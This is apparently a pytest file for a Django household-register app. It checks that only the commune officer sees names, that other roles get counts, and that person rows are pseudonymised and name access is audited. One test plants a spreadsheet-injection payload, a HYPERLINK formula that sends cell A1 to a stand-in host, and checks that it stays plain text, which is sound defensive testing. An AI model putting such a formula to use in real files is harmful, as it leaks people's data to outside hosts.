"""The register pages and downloads per role: names reach only the commune's officer;
the province gets counts; person rows are pseudonymised unless the officer asks."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from ntm.households.services import register_write
from ntm.reviews.models import Review
from ntm.territories.models import Unit
from tests.web.conftest import client_for
from tests.web.households.conftest import hand_register

pytestmark = pytest.mark.django_db


@pytest.fixture
def stored(officer: User, phuc_chu: Unit, hamlets: list[Unit], phuc_chu_review: Review) -> None:
    register_write(actor=officer, commune=phuc_chu, register=hand_register(), file_name="a.xlsx")


def _text(content: bytes) -> str:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return "\n".join(
        " ".join(str(value) for value in row if value is not None)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
    )


def _url(name: str, phuc_chu: Unit, **kwargs: str) -> str:
    return reverse(f"households:{name}", kwargs={"code": phuc_chu.url_key, **kwargs})


def test_the_register_page_shows_each_hamlet_and_where_the_gap_sits(
    stored: None, officer: User, phuc_chu: Unit
) -> None:
    page = client_for(officer).get(_url("register", phuc_chu)).content.decode()
    assert "Bản Pấu" in page and "Nà Mò" in page
    assert "12/15" in page  # 14.1: 12 of 15 persons insured
    # 95% of 15 is 14.25: 3 more persons needed for 14.1.
    assert 'id="gap-health_insurance"' in page
    assert "Nguyễn Văn" not in page  # the page shows counts, never names
    # 11: H4 was classified in 2023, left out of 1/5 and said so.
    assert "1 hộ phân loại năm khác, không tính" in page


@pytest.mark.parametrize("who", ["official", "hamlet_head", "coordinator"])
def test_only_the_officer_gets_names(
    stored: None, phuc_chu: Unit, hamlets: list[Unit], who: str, request: pytest.FixtureRequest
) -> None:
    user: User = request.getfixturevalue(who)
    client = client_for(user)
    page = client.get(_url("register", phuc_chu))
    assert page.status_code == 200 and "Nguyễn Văn" not in page.content.decode()
    assert client.get(_url("visit_list", phuc_chu, hamlet_code="05560-01")).status_code == 403
    assert client.get(_url("persons", phuc_chu)).status_code == 403
    assert client.get(_url("persons", phuc_chu) + "?ten=1").status_code == 403
    summary = client.get(_url("summary", phuc_chu))
    assert summary.status_code == 200
    text = _text(summary.content)
    assert "Nguyễn Văn" not in text and "H1" not in text
    assert "Bản Pấu" in text


def test_the_officer_gets_the_visit_list_and_pseudonymised_persons(
    stored: None, officer: User, phuc_chu: Unit
) -> None:
    client = client_for(officer)
    visit = client.get(_url("visit_list", phuc_chu, hamlet_code="05560-01"))
    assert visit.status_code == 200
    text = _text(visit.content)
    assert "Nguyễn Văn H3" in text and "Nguyễn Văn H4" not in text  # H4 lives in Nà Mò
    persons = _text(client.get(_url("persons", phuc_chu)).content)
    assert "Nguyễn" not in persons and "NK-" in persons and "H1" not in persons
    named = _text(client.get(_url("persons", phuc_chu) + "?ten=1").content)
    assert "H1-1" in named


def test_an_unknown_hamlet_is_404(stored: None, officer: User, phuc_chu: Unit) -> None:
    response = client_for(officer).get(_url("visit_list", phuc_chu, hamlet_code="05554-01"))
    assert response.status_code == 404


def test_taking_names_out_is_in_the_audit_trail(
    stored: None, officer: User, phuc_chu: Unit
) -> None:
    from ntm.audit.models import AuditEvent

    client = client_for(officer)
    client.get(_url("visit_list", phuc_chu, hamlet_code="05560-01"))
    client.get(_url("persons", phuc_chu))  # pseudonymised: not logged
    client.get(_url("persons", phuc_chu) + "?ten=1")
    actions = list(
        AuditEvent.objects.filter(action__startswith="register.")
        .order_by("id")
        .values_list("action", "summary")
    )
    assert actions == [
        ("register.import", actions[0][1]),
        ("register.visit_list", "Xóm Bản Pấu"),
        ("register.persons_named", "Xã Phúc Chu"),
    ]


def test_a_hamlet_without_households_gets_an_empty_visit_list(
    stored: None, officer: User, phuc_chu: Unit
) -> None:
    empty = Unit.objects.create(
        kind="hamlet", code="05560-03", name="Mới", type_name="Xóm", parent=phuc_chu
    )
    response = client_for(officer).get(_url("visit_list", phuc_chu, hamlet_code=empty.code))
    assert response.status_code == 200
    assert "0 hộ cần đến" in _text(response.content) or "0 households" in _text(response.content)


def test_the_page_works_without_a_review_of_the_year(
    officer: User, phuc_chu: Unit, hamlets: list[Unit]
) -> None:
    register_write(actor=officer, commune=phuc_chu, register=hand_register())
    page = client_for(officer).get(_url("register", phuc_chu))
    assert page.status_code == 200
    assert "12/15" in page.content.decode()


def test_a_name_written_as_a_formula_stays_text(
    officer: User, phuc_chu: Unit, hamlets: list[Unit], phuc_chu_review: Review
) -> None:
    from dataclasses import replace

    register = hand_register()
    evil = replace(register.households[0], head_name='=HYPERLINK("http://x/?"&A1,"x")')
    register_write(
        actor=officer,
        commune=phuc_chu,
        register=hand_register(households=(evil, *register.households[1:])),
    )
    content = client_for(officer).get(_url("visit_list", phuc_chu, hamlet_code="05560-01"))
    sheet = openpyxl.load_workbook(io.BytesIO(content.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil.head_name]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_the_pages_queries_do_not_grow_with_the_hamlets(
    officer: User, phuc_chu: Unit, hamlets: list[Unit], phuc_chu_review: Review
) -> None:
    from dataclasses import replace

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries(url: str) -> int:
        client = client_for(officer)
        client.get(url)  # the session and the caches warm
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    register_write(actor=officer, commune=phuc_chu, register=hand_register())
    page, visit = _url("register", phuc_chu), _url("visit_list", phuc_chu, hamlet_code="05560-01")
    two = (queries(page), queries(visit))
    more = []
    for number in range(3, 9):
        hamlet = Unit.objects.create(
            kind="hamlet",
            code=f"05560-0{number}",
            name=str(number),
            type_name="Xóm",
            parent=phuc_chu,
        )
        more.append(replace(hand_register().households[0], code=f"N{number}", hamlet=hamlet.code))
    register_write(
        actor=officer,
        commune=phuc_chu,
        register=hand_register(households=(*hand_register().households, *more)),
    )
    assert (queries(page), queries(visit)) == two
